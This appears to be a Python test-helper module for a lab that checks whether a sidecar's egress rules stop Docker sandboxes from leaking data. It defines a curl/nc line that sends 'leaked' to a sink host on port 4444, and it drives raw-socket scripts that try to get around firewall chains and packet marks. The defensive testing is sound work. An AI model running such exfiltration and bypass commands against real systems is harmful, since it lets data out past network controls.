"""Containers of the image: a sidecar, and sandboxes that join its network."""

from __future__ import annotations

import contextlib
import json
import subprocess
from collections.abc import Iterator
from pathlib import Path

from . import plan
from .engine import IMAGE, MACHINE, MACHINE_BINDS, SANDGATE, Containers, Engine
from .internet import Internet
from .processes import wait_until

ATTACKS = Path(__file__).resolve().parents[1] / "attacks"
WITH_ATTACKS = tuple(word for bind in (*MACHINE_BINDS, f"{ATTACKS}:/attacks:ro") for word in ("--volume", bind))
"""Options of containers of :data:`lab.engine.MACHINE` that have the machine's own programs, and the attacks."""
NETWORK = "userdefined"
NEIGHBOUR = "10.90.0.20"
"""The name of a :func:`user_defined_network`, and the address of the container that is in it."""
ADDRESS = "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}"
ADDRESS6 = "{{range .NetworkSettings.Networks}}{{.GlobalIPv6Address}}{{end}}"
"""What :meth:`lab.engine.Containers.inspect` is asked for the addresses of a container of one network."""
SEND = f"curl -s -m 1 tftp://{plan.SINK4}:4444/leaked; echo leaked | nc -w 1 {plan.SINK4} 4444"
"""A shell's words that send to sinks, as a datagram and over TCP."""


NOWHERE = (
    "ip link add nowhere type bridge && ip address add 192.0.0.2/32 dev nowhere && "
    "ip link set nowhere up && ip route add default dev nowhere"
)
"""As the page on containers has it: what a container without a network needs for programs to send at all."""
NOWHERE6 = "ip address add 100::2/128 dev nowhere nodad && ip -6 route add default dev nowhere"
"""As the page has it for IPv6, besides."""


def show_leak(internet: Internet, docker: Containers, *command: str) -> None:
    """Shows that :data:`SEND`, of which the command is made, reaches both sinks from a container that nobody guards."""
    free = docker.docker("run", "--detach", "--cap-drop", "ALL", IMAGE, *command)
    services: set[str] = set()

    def arrived() -> bool:
        services.update(arrival.service for arrival in internet.sinks.arrivals() if "leaked" in arrival.data)
        return services == {"tcp-sink", "udp-sink"}

    wait_until(arrived, "what is sent where nobody guards", 30)
    docker.remove(free)
    internet.forget()


def ask_dockers_resolver(docker: Engine, container: str, holder: str, name: str) -> dict[str, str]:
    """Asks the resolver that Docker has in user-defined networks, from inside; what it answered, by the way it was asked.
    `holder` is the container whose network it is."""
    command = ("/usr/bin/python3", "/attacks/docker_resolver.py", name, docker.inspect(holder, ADDRESS))
    done = docker.run(container, *command, timeout=120)
    assert done.returncode == 0, done.stderr
    return {way: address for way, _, address in (line.partition(" ") for line in done.stdout.splitlines())}


def attack_with_raw_sockets(docker: Containers, container: str, neighbour: str = "", is_ipv6: bool = False) -> None:
    """T1 and T10: frames that go behind every inet chain, and every mark that somebody might trust. `neighbour` is the
    hardware address of who forwards frames; the bridge's, where there is one."""
    sink, kind = (plan.SINK6, "-6") if is_ipv6 else (plan.SINK4, "-4")
    # As programs see it: engines do not know it of every network.
    shown = docker.run(container, "/bin/ip", kind, "-oneline", "address", "show", "scope", "global").stdout
    address = next(line.split()[3].partition("/")[0] for line in shown.splitlines() if line.split()[1] != "lo")
    neighbour = neighbour or docker.namespace.check("cat", f"/sys/class/net/{docker.bridge}/address").strip()
    frames = [("packet", bypass, address, sink, "4444", neighbour) for bypass in ("queue", "bypass")]
    for words in (*frames, ("marks", sink, "4444")):
        docker.run(container, "/usr/bin/python3", "/attacks/shared_namespace.py", *words, timeout=60)


@contextlib.contextmanager
def user_defined_network(docker: Engine) -> Iterator[str]:
    """A network with Docker's resolver; a container with an address of :data:`NEIGHBOUR` is in it, and known by that name."""
    network = docker.docker("network", "create", "--subnet", "10.90.0.0/24", NETWORK)
    neighbour = docker.start("--network", network, "--ip", NEIGHBOUR, "--name", "neighbour")
    try:
        yield network
    finally:
        docker.docker("rm", "--force", neighbour)
        # What a failed test left there is the engine's to end.
        with contextlib.suppress(RuntimeError):
            docker.docker("network", "rm", network)


@contextlib.contextmanager
def shop(docker: Engine) -> Iterator[str]:
    """A user-defined network with a container that serves its files, and is known by the names "shop" and "shop.internal"."""
    with user_defined_network(docker) as network:
        serve = ("/usr/bin/python3", "-u", "-m", "http.server", "80")
        named = ("--name", "shop", "--network-alias", "shop.internal")
        docker.docker("run", "--detach", "--network", network, *named, *WITH_ATTACKS, MACHINE, *serve)
        try:
            yield network
        finally:
            docker.docker("rm", "--force", "shop")


def page(docker: Containers, container: str, url: str) -> str:
    """What a program in a container gets of a URL."""
    return docker.run(container, "/usr/bin/curl", "-sS", "-m", "8", url).stdout


class Guarded:
    """A sidecar container with what runs in its network."""

    def __init__(
        self, internet: Internet, docker: Containers, policy: object, *options: str, image: str = SANDGATE
    ) -> None:
        self.internet, self.docker = internet, docker
        rules = f"OPENSANDBOX_EGRESS_RULES={json.dumps(policy)}"
        words = ("run", "--detach", "--cap-add", "NET_ADMIN", "--env", rules, *options, image)
        self.sidecar = docker.docker(*words)
        self.address = docker.inspect(self.sidecar, ADDRESS)
        self.sandboxes: list[str] = []
        self.wait()

    def wait(self) -> None:
        """Waits until it is well."""
        wait_until(lambda: self.healthy() or not self.runs(), "the sidecar", 30)
        assert self.runs(), self.log

    def runs(self) -> bool:
        return self.docker.inspect(self.sidecar, "{{.State.Running}}") == "true"

    @property
    def log(self) -> str:
        return self.docker.logs(self.sidecar)

    def healthy(self) -> bool:
        return self.ask("/healthz") == "ok"

    def ask(self, path: str, *options: str) -> str:
        """Asks it as the server does, from the engine's machine."""
        url = f"http://{self.address}:18080{path}"
        command = self.docker.namespace.command("curl", "-sS", "-m", "2", *options, url)
        return subprocess.run(command, capture_output=True, text=True).stdout

    def sandbox(self, *options: str, image: str = IMAGE) -> str:
        """Starts a container in its network."""
        container = self.docker.start("--network", f"container:{self.sidecar}", *options, image=image)
        self.sandboxes.append(container)
        return container

    def remove(self) -> None:
        self.docker.remove(*self.sandboxes, self.sidecar)


def reaches(docker: Containers, container: str, name: str, *options: str) -> bool:
    """Whether a program in a container gets a page of a web server."""
    page = docker.run(container, "/usr/bin/curl", "-sS", "-m", "4", *options, f"http://{name}/")
    return f"served {name}" in page.stdout


def pinned(name: str, address: str) -> tuple[str, str]:
    """What has curl ask an address without resolving a name."""
    return "--resolve", f"{name}:80:{address}"


DIRECTLY = pinned(plan.ALLOWED, plan.SHARED4)
